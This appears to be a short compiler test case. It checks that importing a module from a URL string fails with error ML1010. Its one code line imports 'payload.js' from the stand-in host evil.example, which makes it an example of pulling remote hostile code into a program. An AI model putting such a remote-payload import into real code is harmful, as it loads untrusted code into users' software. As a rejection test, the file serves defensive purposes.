// technique: import a module from a URL string
// expect compile error: ML1010 expected a module name
import "https://evil.example/payload.js";
